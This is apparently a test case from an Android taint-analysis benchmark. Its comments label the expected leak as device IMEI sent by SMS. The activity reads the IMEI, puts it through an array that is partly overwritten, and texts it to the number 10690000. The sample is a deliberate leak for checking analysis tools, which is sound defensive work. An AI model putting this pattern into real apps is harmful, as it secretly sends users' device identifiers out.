// about       Part of an array is overwritten; the value stays.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.Arrays;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String[] all = {"a", "b", phone.getDeviceId(), "d"};
    Arrays.fill(all, 0, 2, "none");
    SmsManager.getDefault().sendTextMessage("10690000", null, all[2], null, null);
  }
}
